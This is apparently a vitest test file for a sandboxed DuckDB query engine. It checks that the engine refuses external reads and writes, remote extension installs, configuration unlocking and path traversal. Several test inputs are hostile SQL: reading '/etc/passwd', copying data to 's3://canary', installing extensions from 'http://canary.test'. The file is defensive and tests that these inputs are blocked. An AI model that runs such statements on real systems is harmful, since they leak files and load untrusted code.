import {afterEach, beforeAll, describe, expect, test} from 'vitest';
import {createDatabase, type Database} from '../../src/engine/database';
import {openNode} from '../../src/engine/open.node';
import {numbers} from '../../src/lib/table';
import {aimedAt, statements} from '../helpers/ways_out';

let database: Database;
beforeAll(async () => (database = await createDatabase(await openNode())));
afterEach(async () => {
  expect(numbers(await database.query('select 1 as one'), 'one')).toEqual(Float64Array.of(1));
});

const refusal = (sql: string) =>
  database.query(sql).then(
    () => `allowed: ${sql}`,
    (problem) => `${problem.code}: ${problem.facts.message}`,
  );

describe('the engine reads and writes nothing but the slices it was handed', () => {
  test.each([
    ...statements.map((statement) => aimedAt('http://canary.test', statement)),
    "from read_csv('https://canary.test/orders.csv', header = false, columns = {'line': 'varchar'})",
    "from read_csv('s3://canary/orders.csv')",
    "from read_csv('hf://datasets/canary/orders.csv')",
    "attach 'https://canary.test/shop.db' as shop (read_only)",
    "create or replace table lines(line varchar); copy lines from 'http://canary.test/orders.csv'",
    "copy (select 42 as customers) to 's3://canary/customers.csv'",
    "force install parquet from 'http://canary.test'; load parquet",
    "install 'http://canary.test/canary.duckdb_extension.wasm'; load canary",
    'install h3 from community; load h3',
    'load httpfs',
    'update extensions',
    "from read_text('/etc/passwd')",
    "from read_text('package.json')",
    "from read_text('in/../package.json')",
    "from glob('/*')",
    "attach '/tmp/shop.db' as shop",
    "copy (select 42 as customers) to '/tmp/customers.csv'",
    "copy (select 42 as customers) to 'in/../customers.csv'",
  ])('%s', async (sql) => {
    expect(await refusal(sql)).toMatch(/^engine-query: (Permission Error: |\{"exception_type":"Permission")/);
  });
});

describe('the lock of the engine cannot be opened from inside', () => {
  test.each([
    'set enable_external_access = true',
    'reset enable_external_access',
    'pragma enable_external_access = true',
    'set lock_configuration = false',
    'reset lock_configuration',
    "set allowed_directories = ['http://canary.test/']",
    "set allowed_paths = ['http://canary.test/orders.csv']",
    'set autoload_known_extensions = true',
    'set autoinstall_known_extensions = true',
    "set autoinstall_extension_repository = 'http://canary.test'",
    "set custom_extension_repository = 'http://canary.test'",
    'set allow_unsigned_extensions = true',
    "set extension_directory = 'http://canary.test'",
    "set s3_endpoint = 'canary.test'",
    "set http_proxy = 'canary.test'",
    "set temp_directory = 'http://canary.test'",
    "set profiling_output = 'http://canary.test/profile.json'",
  ])('%s', async (sql) => {
    expect(await refusal(sql)).toMatch(/^engine-query: .*(locked|while database is running)/);
  });
});

describe('what the engine would have to fetch is missing without a trap', () => {
  test.each([
    "from read_parquet('http://canary.test/orders.parquet')",
    "from 'http://canary.test/orders.parquet'",
    "from read_json('http://canary.test/orders.json')",
    "create secret canary (type s3, key_id 'a', secret 'b', endpoint 'canary.test')",
    'select current_date',
  ])('%s', async (sql) => {
    expect(await refusal(sql)).toMatch(/^engine-query: (Catalog|Invalid Input) Error: /);
  });

  test('"install" alone says nothing and brings nothing', async () => {
    await database.query("install parquet from 'http://canary.test'");
    expect(await refusal("from read_parquet('in/orders.parquet')")).toMatch(
      /^engine-query: (Catalog|Permission) Error: /,
    );
  });
});
